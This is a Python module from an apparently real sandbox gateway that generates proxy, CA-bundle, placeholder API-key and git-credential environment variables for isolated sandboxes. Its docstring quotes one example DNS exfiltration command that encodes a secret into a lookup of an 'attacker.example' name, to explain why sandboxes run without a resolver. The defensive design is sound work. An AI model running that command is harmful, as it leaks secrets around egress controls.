"""The environment a sandbox needs: proxy URL with its token, CA bundle, API-key vars.

The `*_API_KEY` variables hold the gateway token, never a key: SDKs put it in their
usual header and the gateway swaps it for the real key on the way out. The same goes
for credentials the gateway mints: `GH_TOKEN`/`GITHUB_TOKEN` (gh, GitHub API clients),
a git credential helper for the GitHub hosts that answers the token as the password
(set through `GIT_CONFIG_*` variables, no file, no GIT_ASKPASS), AWS placeholder keys
with the token as `AWS_SESSION_TOKEN` (the gateway re-signs with real keys), and
`CLOUDSDK_AUTH_ACCESS_TOKEN` (gcloud) for Google.

Beyond the proxy and CA variables every HTTP stack reads, some tools need their own:
gRPC ignores `SSL_CERT_FILE` (`GRPC_DEFAULT_SSL_ROOTS_FILE_PATH`), an npmrc `cafile`
overrides `NODE_EXTRA_CA_CERTS` (`NPM_CONFIG_CAFILE`), git sends no proxy credentials
on its first CONNECT unless told to (`GIT_HTTP_PROXY_AUTHMETHOD=basic`), and Node's
`fetch` ignores proxy variables (Node 24 and recent 22.x honour `NODE_USE_ENV_PROXY=1`), so a
preload shipped with this package (`NODE_OPTIONS=--import=…`) installs a proxying
dispatcher. aiohttp reads the proxy variables only with `trust_env=True`.

A sandbox that uses the proxy needs no DNS resolver: the gateway resolves every name
(after the policy allowed it). Giving it one opens a side channel around the policy
(data in query names, `nslookup $(base32 < secret).attacker.example`), so `dns_note`
tells the operator how to run without one.
"""

from __future__ import annotations

import base64
import binascii
import ipaddress
import json
import re
import time
from collections.abc import Collection, Iterable, Mapping
from importlib import resources
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlsplit, urlunsplit

import yaml

from gateway.services.identity.claims import unverified_claims
from gateway.services.identity.tokens import AUDIENCE

if TYPE_CHECKING:
    from gateway.core.policy.hosts import HostPattern

DEFAULT_CA_BUNDLE = "/etc/sandbox-gateway/ca-bundle.pem"
DEFAULT_NODE_PRELOAD = "/etc/sandbox-gateway/node-proxy-preload.mjs"
NODE_PRELOAD_NAME = "node-proxy-preload.mjs"
DEFAULT_JVM_AGENT = "/etc/sandbox-gateway/jvm-proxy-agent.jar"
JVM_AGENT_NAME = "jvm-proxy-agent.jar"
FORMATS = ("dotenv", "shell", "k8s")

CA_VARIABLES = (
    "SSL_CERT_FILE",          # Python ssl, OpenSSL-based tools, httpx, aiohttp, uv
    "REQUESTS_CA_BUNDLE",     # requests
    "CURL_CA_BUNDLE",         # curl
    "NODE_EXTRA_CA_CERTS",    # Node.js
    "NPM_CONFIG_CAFILE",      # npm (an npmrc cafile would replace NODE_EXTRA_CA_CERTS)
    "GIT_SSL_CAINFO",         # git
    "AWS_CA_BUNDLE",          # AWS SDKs and CLI
    "PIP_CERT",               # pip
    "GRPC_DEFAULT_SSL_ROOTS_FILE_PATH",  # gRPC (ignores SSL_CERT_FILE)
    "CARGO_HTTP_CAINFO",      # cargo's registry client (its libcurl takes no SSL_CERT_FILE)
    "DENO_CERT",              # Deno
    "BUNDLE_SSL_CA_CERT",     # Ruby's Bundler
    "CONDA_SSL_VERIFY",       # conda (a path: verify against this bundle)
)
API_KEY_VARIABLES = (
    "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "AZURE_OPENAI_API_KEY", "GEMINI_API_KEY",
    "GOOGLE_API_KEY", "MISTRAL_API_KEY", "GROQ_API_KEY", "OPENROUTER_API_KEY", "HF_TOKEN",
    "GH_TOKEN", "GITHUB_TOKEN", "AWS_SESSION_TOKEN", "CLOUDSDK_AUTH_ACCESS_TOKEN",
    "CODEX_API_KEY",  # Codex CLI reads this, not OPENAI_API_KEY
)
#: The key variables of each provider preset: where `env` puts a credential's
#: `placeholder` prefix before the token (an SDK or agent that checks the key's shape).
PRESET_VARIABLES: dict[str, tuple[str, ...]] = {
    "openai": ("OPENAI_API_KEY", "CODEX_API_KEY"), "anthropic": ("ANTHROPIC_API_KEY",),
    "azure-openai": ("AZURE_OPENAI_API_KEY",), "gemini": ("GEMINI_API_KEY", "GOOGLE_API_KEY"),
    "mistral": ("MISTRAL_API_KEY",), "groq": ("GROQ_API_KEY",),
    "openrouter": ("OPENROUTER_API_KEY",), "huggingface": ("HF_TOKEN",),
}
#: Key variables a client sends unprompted, on every call to its vendor's hosts, public
#: data included (huggingface_hub's `HF_TOKEN`, gh's `GH_TOKEN`): the gateway refuses the
#: token there (`exfiltration_blocked`) unless a rule binds a credential on that host, so
#: `env` leaves them out when the sandbox's policy binds none (`implicit_unbound`).
IMPLICIT_SENDERS: dict[str, tuple[str, ...]] = {
    "HF_TOKEN": ("huggingface.co",),
    "GH_TOKEN": ("api.github.com", "github.com"),
    "GITHUB_TOKEN": ("api.github.com", "github.com"),
}
NO_PROXY = "localhost,127.0.0.1,::1"
_JWT = re.compile(r"[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+")
#: AWS SDKs sign with these; the gateway strips that signature and signs with real keys.
AWS_PLACEHOLDERS = (("AWS_ACCESS_KEY_ID", "SANDBOXGATEWAYPLACEHOLDER"),
                    ("AWS_SECRET_ACCESS_KEY", "sandbox-gateway-placeholder-not-a-key"))
#: git asks this helper after a 401: the token (from $GH_TOKEN) as the Basic password.
GIT_HELPER = ('!f() { test "$1" = get || return 0; echo username=x-access-token; '
              'echo "password=$GH_TOKEN"; }; f')


class InvalidToken(ValueError):
    """The token given to `env` is not a usable gateway token."""


#: What the key variables hold for a pod known by its address (identity.kubernetes): no
#: token, a placeholder the gateway replaces (SDKs refuse to start without a key).
POD_KEY = "sandbox-gateway-pod-identity"


def proxy_url(proxy: str, sandbox: str | None, token: str | None) -> str:
    """`http://gateway:8080` -> `http://<sandbox>:<token>@gateway:8080` (no token: a pod
    known by its address, the URL carries no credentials)."""
    parts = urlsplit(proxy if "://" in proxy else f"http://{proxy}")
    if token is None:
        host = f"[{parts.hostname}]" if ":" in (parts.hostname or "") else parts.hostname
        netloc = f"{host}:{parts.port}" if parts.port else str(host)
        return urlunsplit((parts.scheme or "http", netloc, "", "", ""))
    sandbox = sandbox or "sandbox"
    netloc = f"{quote(sandbox, safe='')}:{quote(token, safe='')}@{parts.hostname}"
    if ":" in (parts.hostname or ""):
        netloc = f"{quote(sandbox, safe='')}:{quote(token, safe='')}@[{parts.hostname}]"
    if parts.port:
        netloc += f":{parts.port}"
    return urlunsplit((parts.scheme or "http", netloc, "", "", ""))


def dns_note(proxy: str) -> list[str]:
    """Lines for the operator (not the env file): the sandbox needs no resolver, and how
    to run it without one when the proxy address is a name."""
    host = urlsplit(proxy if "://" in proxy else f"http://{proxy}").hostname or ""
    lines = [
        "# DNS: a sandbox using this proxy needs no resolver: the gateway resolves names",
        "# after its policy allows them, and a resolver in the sandbox is a way around the",
        "# policy (data leaves in query names). Run it without one: Kubernetes",
        "# `dnsPolicy: None` + `dnsConfig: {nameservers: [127.0.0.1]}` (the pod's own",
        "# loopback, where nothing answers: Kubernetes wants one nameserver), Docker",
        "# `-v /dev/null:/etc/resolv.conf:ro`; in transparent mode, the gateway's own",
        "# resolver (listen.dns) as the only nameserver.",
    ]
    try:
        ipaddress.ip_address(host)
    except ValueError:
        lines.append(f"# The proxy address {host!r} is a name: without DNS the sandbox must find "
                     "it in /etc/hosts (Kubernetes `hostAliases`, Docker `--add-host`), or use")
        lines.append("# the gateway's IP address (its Service ClusterIP) in --proxy.")
    return lines


def _b64json(part: str, what: str) -> dict[str, Any]:
    try:
        value = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except (ValueError, binascii.Error):
        raise InvalidToken(f"its {what} is not base64url-encoded JSON") from None
    if not isinstance(value, dict):
        raise InvalidToken(f"its {what} is not a JSON object")
    return value


def check_token(token: str, now: float | None = None) -> dict[str, Any]:
    """The claims of a structurally valid, unexpired gateway JWT (signature NOT checked:
    see `TokenService.verify` for that); raises `InvalidToken` saying what is wrong."""
    if not _JWT.fullmatch(token):
        raise InvalidToken("it is not a JWT (three base64url parts separated by dots)")
    parts = token.split(".")
    header = _b64json(parts[0], "header")
    claims = _b64json(parts[1], "payload")
    if header.get("alg") != "EdDSA" or not isinstance(header.get("kid"), str):
        raise InvalidToken(f"its header is not a gateway token's (alg {header.get('alg')!r}, "
                           "expected EdDSA with a kid)")
    missing = [c for c in ("sub", "pol", "exp", "jti") if c not in claims]
    if missing:
        raise InvalidToken(f"it lacks the claims {', '.join(missing)}")
    if claims.get("aud") != AUDIENCE:
        raise InvalidToken(f"its audience is {claims.get('aud')!r}, not {AUDIENCE!r}")
    exp = claims["exp"]
    if not isinstance(exp, int | float) or isinstance(exp, bool):
        raise InvalidToken("its exp claim is not a number")
    now = time.time() if now is None else now
    if exp <= now:
        when = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(exp))
        raise InvalidToken(f"it expired at {when}")
    return claims


def git_config(hosts: tuple[str, ...] = ("github.com",)) -> list[tuple[str, str]]:
    """`GIT_CONFIG_*` variables: the credential helper for each of `hosts` only (a helper
    for every host would hand the token to any server that asks)."""
    out = [("GIT_CONFIG_COUNT", str(len(hosts)))]
    for i, host in enumerate(hosts):
        out += [(f"GIT_CONFIG_KEY_{i}", f"credential.https://{host}.helper"),
                (f"GIT_CONFIG_VALUE_{i}", GIT_HELPER)]
    return out


def sandbox_variables(token: str | None, proxy: str, sandbox: str | None = None,
                      ca_bundle: str = DEFAULT_CA_BUNDLE,
                      node_preload: str | None = DEFAULT_NODE_PRELOAD,
                      git_hosts: tuple[str, ...] = ("github.com",),
                      placeholders: Mapping[str, str] | None = None,
                      jvm_agent: str | None = DEFAULT_JVM_AGENT,
                      omit: Collection[str] = ()) -> list[tuple[str, str]]:
    """The sandbox's variables, in output order. `node_preload`: the preload's path
    inside the sandbox (None: no NODE_OPTIONS); `jvm_agent`: the JVM agent's (None: no
    JAVA_TOOL_OPTIONS); `git_hosts`: hosts whose git credential
    helper answers the token (empty: none); `placeholders`: a key variable's prefix before
    the token (`placeholders_of`); `omit`: key variables left out (`implicit_unbound`).
    `token` None: a Kubernetes pod known by its address (no credentials anywhere; the key
    variables hold `POD_KEY`)."""
    if token is not None:
        sandbox = sandbox or str(unverified_claims(token).get("sub") or "sandbox")
    url = proxy_url(proxy, sandbox, token)
    out = [("HTTPS_PROXY", url), ("HTTP_PROXY", url), ("https_proxy", url),
           ("http_proxy", url), ("NO_PROXY", NO_PROXY), ("no_proxy", NO_PROXY)]
    out += [(var, ca_bundle) for var in CA_VARIABLES]
    out += [("GIT_HTTP_PROXY_AUTHMETHOD", "basic"), ("NODE_USE_ENV_PROXY", "1")]
    if node_preload:
        out.append(("NODE_OPTIONS", f"--import={_quoted(node_preload)}"))
    if jvm_agent:
        # The agent reads HTTPS_PROXY and SSL_CERT_FILE: no token on the JVM's command
        # line, which the JVM echoes ("Picked up JAVA_TOOL_OPTIONS: ...") to stderr.
        out.append(("JAVA_TOOL_OPTIONS", f"-javaagent:{_quoted(jvm_agent)}"))
    prefix = placeholders or {}
    out += [(var, prefix.get(var, "") + (token or POD_KEY)) for var in API_KEY_VARIABLES
            if var not in omit]
    out += list(AWS_PLACEHOLDERS)
    if git_hosts:
        out += git_config(git_hosts)
    return out


def _quoted(path: str) -> str:
    """A path as NODE_OPTIONS and JAVA_TOOL_OPTIONS read it (double quotes if needed)."""
    return f'"{path}"' if any(c in path for c in ' "\\') else path


def placeholders_of(credentials: Iterable[tuple[str | None, str | None]]
                    ) -> dict[str, str]:
    """The prefix of each key variable, from a policy's credentials as (preset,
    placeholder) pairs: a preset credential's placeholder goes before the token in that
    preset's variables. Two credentials of one preset with different placeholders are
    ambiguous: ValueError."""
    out: dict[str, str] = {}
    for preset, placeholder in credentials:
        for var in PRESET_VARIABLES.get(preset or "", ()) if placeholder else ():
            if out.setdefault(var, placeholder or "") != placeholder:
                raise ValueError(f"two {preset} credentials give {var} different "
                                 "placeholders; keep one")
    return out


def implicit_unbound(credential_hosts: Iterable[HostPattern],
                     git_hosts: Iterable[str] = ()) -> tuple[str, ...]:
    """The `IMPLICIT_SENDERS` variables no credential binds a host of: what `env` leaves
    out for a policy whose credential rules have `credential_hosts` as their hosts. The
    GitHub variables also feed the git credential helper, so a credential on one of
    `git_hosts` keeps them."""
    patterns = list(credential_hosts)
    out = []
    for var, hosts in IMPLICIT_SENDERS.items():
        names = (*hosts, *git_hosts) if var != "HF_TOKEN" else hosts
        if not any(p.matches(host) for p in patterns for host in names):
            out.append(var)
    return tuple(out)


def sandbox_env(token: str, proxy: str, sandbox: str | None = None,
                ca_bundle: str = DEFAULT_CA_BUNDLE,
                node_preload: str | None = DEFAULT_NODE_PRELOAD,
                git_hosts: tuple[str, ...] = ("github.com",)) -> list[str]:
    """`KEY=value` lines for a sandbox (an env file for `docker run --env-file`)."""
    return [f"{k}={v}" for k, v in sandbox_variables(token, proxy, sandbox, ca_bundle,
                                                      node_preload, git_hosts)]


def _shell_quote(value: str) -> str:
    return "'" + value.replace("'", "'\\''") + "'"


def render(variables: list[tuple[str, str]], fmt: str) -> str:
    """The variables as a dotenv file (`K=v`, what `docker --env-file` reads literally),
    shell (`export K='v'`) or a Kubernetes container `env:` list."""
    if fmt == "dotenv":
        if any("\n" in v for _, v in variables):
            raise ValueError("a value with a newline cannot be written as dotenv")
        return "".join(f"{k}={v}\n" for k, v in variables)
    if fmt == "shell":
        return "".join(f"export {k}={_shell_quote(v)}\n" for k, v in variables)
    if fmt == "k8s":
        doc = {"env": [{"name": k, "value": v} for k, v in variables]}
        return yaml.safe_dump(doc, sort_keys=False, width=1 << 20)
    raise ValueError(f"unknown format {fmt!r}; one of {', '.join(FORMATS)}")


def node_preload_source() -> str:
    """The Node preload shipped with this package."""
    return (resources.files("gateway") / "sandbox" / NODE_PRELOAD_NAME).read_text("utf-8")


def jvm_agent_bytes() -> bytes:
    """The JVM agent jar shipped with this package (built from gateway/sandbox/jvm by
    `make jvm-agent`)."""
    return (resources.files("gateway") / "sandbox" / JVM_AGENT_NAME).read_bytes()
